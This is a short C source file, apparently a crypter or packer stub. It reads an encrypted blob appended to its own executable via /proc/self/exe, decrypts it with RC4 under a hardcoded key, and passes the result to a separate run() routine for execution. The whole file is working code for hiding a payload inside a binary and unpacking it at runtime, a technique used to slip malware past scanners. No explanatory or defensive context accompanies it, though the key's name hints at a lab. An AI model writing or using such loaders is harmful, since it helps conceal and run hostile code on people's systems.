// RC4 over what stands behind the program's own end in its file: eight bytes of length are the last of it.
#include <stdio.h>
#include <stdlib.h>
#include "run.h"

static const unsigned char KEY[] = "the-key-of-the-lab";

static void rc4(unsigned char *bytes, size_t size) {
  unsigned char state[256];
  for (int i = 0; i < 256; i++) state[i] = (unsigned char)i;
  for (int i = 0, j = 0; i < 256; i++) {
    j = (j + state[i] + KEY[i % (int)(sizeof KEY - 1)]) & 255;
    unsigned char swap = state[i];
    state[i] = state[j];
    state[j] = swap;
  }
  for (size_t n = 0, i = 0, j = 0; n < size; n++) {
    i = (i + 1) & 255;
    j = (j + state[i]) & 255;
    unsigned char swap = state[i];
    state[i] = state[j];
    state[j] = swap;
    bytes[n] ^= state[(state[i] + state[j]) & 255];
  }
}

int main(void) {
  FILE *self = fopen("/proc/self/exe", "rb");
  unsigned long size = 0;
  if (self == NULL || fseek(self, -8, SEEK_END) != 0 || fread(&size, 8, 1, self) != 1) return 1;
  unsigned char *bytes = malloc(size);
  if (bytes == NULL || fseek(self, -8 - (long)size, SEEK_END) != 0 || fread(bytes, 1, size, self) != size) return 1;
  rc4(bytes, size);
  run(bytes, size);
}
